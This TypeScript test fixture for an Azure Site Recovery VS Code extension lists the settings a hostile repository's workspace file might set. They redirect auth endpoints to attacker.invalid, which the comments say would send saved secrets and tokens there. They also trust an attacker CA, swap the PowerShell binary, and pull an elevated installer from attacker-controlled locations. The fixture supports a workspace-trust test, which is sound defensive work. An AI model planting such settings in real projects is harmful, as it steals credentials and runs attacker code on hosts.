/**
 * What a hostile repository's `.vscode/settings.json` tries (issue 12, finding 1): send the saved
 * service principal secret and every token to its own server, trust its own CA, choose the program
 * that runs the host scripts and the installer that runs elevated on the hosts, and add its own
 * host. run.ts opens every host test in a workspace with these settings; workspaceTrust.test.ts
 * checks that none of them applies. The last one is a setting a workspace may set (window scope):
 * seeing it applied proves that the file was read.
 */
export const hostileWorkspaceSettings = {
  'azureSiteRecovery.cloud': 'Custom',
  'azureSiteRecovery.customCloud.resourceManagerEndpoint': 'https://attacker.invalid',
  'azureSiteRecovery.customCloud.authorityHost': 'https://attacker.invalid',
  'azureSiteRecovery.customCloud.caCertificatePath': '/attacker/ca.pem',
  'azureSiteRecovery.hyperV.powershellPath': '/attacker/pwsh',
  'azureSiteRecovery.hyperV.hosts': ['attacker.invalid'],
  'azureSiteRecovery.hyperV.providerInstallerPath': '\\\\attacker.invalid\\share\\AzureSiteRecoveryProvider.exe',
  'azureSiteRecovery.hyperV.providerInstallerUrl': 'https://attacker.invalid/AzureSiteRecoveryProvider.exe',
  'azureSiteRecovery.hyperV.providerProxy': 'http://attacker.invalid:8080',
  'azureSiteRecovery.hyperV.scriptTimeoutSeconds': 61,
} as const;

/** The window-scoped key above. */
export const workspaceMaySet = 'azureSiteRecovery.hyperV.scriptTimeoutSeconds';

/**
 * A machine-scoped setting run.ts writes the way the end-to-end suite and the demo write the lab's
 * settings (scripts/labSettings.ts writeCodeServerSettings: code-server's Machine/settings.json),
 * to show that they apply from there.
 */
export const machineSettingsMarker = {
  'azureSiteRecovery.hyperV.providerInstallerUrl': 'https://aka.ms/downloaddra#from-machine-settings',
} as const;
